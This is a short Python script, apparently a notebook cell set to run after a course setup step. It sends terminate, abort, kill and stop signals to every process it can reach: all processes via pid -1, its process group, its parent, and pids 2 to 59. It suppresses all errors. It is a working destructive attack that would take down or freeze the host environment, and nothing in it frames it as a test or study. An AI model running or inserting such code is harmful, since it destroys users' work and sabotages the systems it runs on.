# Sends every signal that ends a process to everyone: itself, its parent, its group, all.
# %% after course_setup
import os

for signal in (15, 6, 9, 19):
    for process in (-1, 0, os.getppid(), *range(2, 60)):
        if process != os.getpid():
            try:
                os.kill(process, signal)
            except OSError:
                pass
